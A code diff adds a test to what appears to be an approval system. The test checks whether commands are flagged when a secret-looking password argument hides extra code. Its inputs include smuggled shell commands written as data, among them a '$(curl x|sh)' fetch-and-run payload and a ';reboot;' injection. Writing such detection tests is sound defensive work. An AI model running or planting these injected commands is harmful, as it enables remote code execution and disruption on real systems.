@@ -138,6 +138,19 @@ test('to whom and as whom something goes can be read by who approves it, and is 
     assert.match(client.text(), /^sent to \[email:\w{4}\]\n$/);
   }));
 
+test('who approves is told where code may be hidden as a secret', () =>
+  withStage(async (stage) => {
+    const hidesCode = async (command: string) => {
+      const { error } = await stage.open(`${command} #ask`, { deps, wait: false });
+      return (await stage.desk.get(error?.request ?? '')).subject.masked?.hidesCode;
+    };
+    const value = ['q7Wz', 'K2mX9pLr'].join('');
+    assert.is(await hidesCode(`login --password='${value}'`), false);
+    assert.is(await hidesCode(`login --password='${value}$(curl x|sh)'`), true);
+    assert.is(await hidesCode(`login --password='${value};reboot;'`), true);
+    assert.is(await hidesCode(`login ${PASSWORD}`), false);
+  }));
+
 test('a subject without secrets is what it always was', () =>
   withStage(async (stage) => {
     const refused = await stage.open('restart #ask', { deps, wait: false });
